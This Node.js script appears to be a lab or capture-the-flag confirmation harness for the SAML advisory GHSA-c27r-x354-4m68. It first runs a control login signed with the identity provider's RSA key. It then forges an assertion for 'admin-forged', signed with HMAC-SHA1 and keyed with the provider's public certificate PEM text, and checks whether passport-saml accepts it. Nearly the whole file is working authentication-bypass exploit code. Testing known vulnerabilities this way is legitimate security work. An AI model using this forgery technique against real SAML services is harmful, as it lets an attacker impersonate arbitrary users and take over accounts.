// node confirm.js   (env MNCTF_LAB_INSTALL = the release's install folder; RELEASE_DIR = lab/releases/<release>)
// GHSA-c27r-x354-4m68: an assertion "signed" with HMAC-SHA1 whose key is the IdP certificate as PEM
// text (exactly what passport-saml hands xml-crypto as the verification key: certToPEM(cert)).
'use strict';
const path = require('path');
const g = require('./genlib');
const { makeSp } = require(path.join(process.env.RELEASE_DIR, 'sp.js'));
const port = 27001;
const idp = g.mkKeys('confirm-idp');
const idpEntity = 'http://127.0.0.1:18999/idp';
const idpMetadata = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="${idpEntity}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${idp.certB64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="http://127.0.0.1:18999/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>`;
const spKeys = g.mkKeys('confirm-sp');
const sp = makeSp({ port, idpMetadata, spKey: spKeys.key, spCert: spKeys.certPem, authnClass: 'urn:mnctf:ac:classes:jpki-user-authentication' });
const base = `http://127.0.0.1:${port}`;
// passport-saml certToPEM(): 64-char lines, BEGIN/END lines, trailing newline
const pemText = `-----BEGIN CERTIFICATE-----\n${idp.certB64.match(/.{1,64}/g).join('\n')}\n-----END CERTIFICATE-----\n`;
(async () => {
  const results = {};
  for (const [label, how] of [['control (IdP RSA-SHA256)', 'rsa'], ['attack (HMAC-SHA1 keyed with IdP PEM text)', 'hmac']]) {
    const irt = g.requestIdFromUrl(await sp.authorizeUrl());
    const aId = g.rid();
    const nameID = how === 'rsa' ? 'alice' : 'admin-forged';
    const xml = g.responseXml({ rId: g.rid(), idpEntity, acs: `${base}/acs`, irt,
      inner: g.assertionXml({ aId, idpEntity, nameID, acs: `${base}/acs`, audience: `${base}/metadata`, irt }) });
    const signed = how === 'rsa'
      ? g.sign(xml, aId, { key: idp.key })
      : g.sign(xml, aId, { key: pemText, hmac: true, alg: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1', digest: 'http://www.w3.org/2000/09/xmldsig#sha1' });
    try {
      const { profile } = await sp.validate(Buffer.from(signed).toString('base64'));
      console.log(`  ${label}: ACCEPTED, NameID=${profile && profile.nameID}`);
      results[how] = profile && profile.nameID;
    } catch (e) {
      console.log(`  ${label}: refused: ${e.message}`);
      results[how] = null;
    }
  }
  if (results.rsa !== 'alice') { console.log('  control refused: the result says nothing'); process.exit(2); }
  process.exit(results.hmac === 'admin-forged' ? 0 : 1);
})();
